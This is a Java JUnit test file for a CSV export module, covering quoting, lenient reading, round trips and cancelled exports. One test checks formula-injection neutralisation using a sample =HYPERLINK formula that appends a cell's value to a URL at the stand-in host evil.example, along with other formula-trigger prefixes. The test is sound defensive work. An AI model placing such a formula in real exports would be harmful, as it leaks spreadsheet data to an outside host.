package dev.pceworkbench.ui.common.export;

import com.fasterxml.jackson.databind.JsonNode;
import dev.pceworkbench.pce.CancellationToken;
import dev.pceworkbench.pce.PceCancelledException;
import dev.pceworkbench.pce.json.PceJson;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The CSV writer's quoting and formula neutralisation, the lenient reader, and round trips through files. */
class CsvExportTest {
    @TempDir
    Path dir;

    private static String line(String... cells) throws IOException {
        StringWriter out = new StringWriter();
        try (CsvWriter w = new CsvWriter(out)) {
            w.row(cells);
        }
        return out.toString();
    }

    @Test
    void quotesCellsHoldingSeparatorsQuotesAndLineBreaks() throws IOException {
        assertEquals("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\r\nlines\",\"cr\ronly\",\r\n",
                line("plain", "a,b", "say \"hi\"", "two\r\nlines", "cr\ronly", null));
        assertEquals("\"\"\r\n", line(""), "a lone empty cell is written so that it reads back as a row");
    }

    @Test
    void neutralisesCellsThatSpreadsheetsReadAsFormulas() throws IOException {
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"",
                CsvWriter.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"));
        assertEquals("\"'-2+3\"", CsvWriter.cell("-2+3"));
        assertEquals("\"'+1\"", CsvWriter.cell("+1"));
        assertEquals("\"'@SUM(A1:A2)\"", CsvWriter.cell("@SUM(A1:A2)"));
        assertEquals("\"'\t=1\"", CsvWriter.cell("\t=1"));
        assertEquals("\"'\r=1\"", CsvWriter.cell("\r=1"));
        assertEquals("\"'\0x\"", CsvWriter.cell("\0x"));
        // Only the first character matters; such cells elsewhere stay as they are.
        assertEquals("a=b", CsvWriter.cell("a=b"));
        assertEquals("161 UDP", CsvWriter.cell("161 UDP"));
        assertEquals("'quoted already", CsvWriter.neutralise("'quoted already"));
    }

    @Test
    void readsWhatItWrites() throws IOException {
        List<List<String>> rows = List.of(
                List.of("Rule set", "Description", "Services"),
                List.of("RS-CRM", "=HYPERLINK(\"http://x\",\"y\")", "161 UDP, 5432 TCP"),
                List.of("RS-\"HR\"", "two\nlines", "-2+3"),
                List.of("Ünïcödé ✓", "", "@cmd"));
        Path f = dir.resolve("rules.csv");
        try (CsvWriter w = CsvWriter.open(f)) {
            for (List<String> r : rows) {
                w.row(r);
            }
        }
        byte[] bytes = Files.readAllBytes(f);
        assertEquals((byte) 0xEF, bytes[0], "UTF-8 byte order mark, for Excel");
        List<CsvReader.Row> back = CsvReader.read(f);
        assertEquals(4, back.size());
        assertEquals(rows.get(0), back.get(0).cells());
        assertEquals(List.of("RS-CRM", "'=HYPERLINK(\"http://x\",\"y\")", "161 UDP, 5432 TCP"), back.get(1).cells());
        assertEquals(List.of("RS-\"HR\"", "two\nlines", "'-2+3"), back.get(2).cells());
        assertEquals(List.of("Ünïcödé ✓", "", "'@cmd"), back.get(3).cells());
        assertEquals(List.of(1, 2, 3, 5), back.stream().map(CsvReader.Row::line).toList(), "lines a row starts on");
    }

    @Test
    void readsHandMadeFilesLeniently() throws IOException {
        List<CsvReader.Row> semi = CsvReader.parse("consumer;provider;service\nweb-01;10.0.0.5;443/tcp\n\n\ndb-1;db-2;5432 tcp");
        assertEquals(3, semi.size());
        assertEquals(List.of("web-01", "10.0.0.5", "443/tcp"), semi.get(1).cells());
        assertEquals(5, semi.get(2).line());
        List<CsvReader.Row> tabs = CsvReader.parse("\uFEFFa\tb\r\n\"c\"\"d\"\te");
        assertEquals(List.of("c\"d", "e"), tabs.get(1).cells());
        assertEquals(List.of("a", "b"), tabs.get(0).cells());
        CsvReader.CsvFormatException e = assertThrows(CsvReader.CsvFormatException.class,
                () -> CsvReader.parse("a,b\n\"open,c\n"));
        assertTrue(e.getMessage().startsWith("Line 2:"), e.getMessage());
    }

    @Test
    void tableExportWritesEveryRowAndLeavesNoPartialFileWhenCancelled() throws IOException {
        record Item(String name, int n) {
        }
        List<Item> items = List.of(new Item("=1+1", 1), new Item("b,c", 2));
        List<TableExport.Column<Item>> columns = List.of(new TableExport.Column<>("Name", Item::name),
                new TableExport.Column<>("N", i -> String.valueOf(i.n())));
        Path csv = dir.resolve("items.csv");
        TableExport.csv(csv, columns, items, CancellationToken.none());
        assertEquals("\uFEFFName,N\r\n\"'=1+1\",1\r\n\"b,c\",2\r\n", Files.readString(csv, StandardCharsets.UTF_8));

        Path json = dir.resolve("items.json");
        TableExport.json(json, items, (g, i) -> {
            g.writeStartObject();
            g.writeStringField("name", i.name());
            g.writeEndObject();
        }, CancellationToken.none());
        JsonNode back = PceJson.mapper().readTree(json.toFile());
        assertEquals(2, back.size());
        assertEquals("=1+1", back.get(0).get("name").asText(), "JSON carries the text as it is");

        CancellationToken cancelled = new CancellationToken();
        cancelled.cancel();
        Path never = dir.resolve("never.csv");
        assertThrows(PceCancelledException.class, () -> TableExport.csv(never, columns, items, cancelled));
        assertFalse(Files.exists(never));
        assertFalse(Files.exists(dir.resolve("never.csv.part")));
    }
}
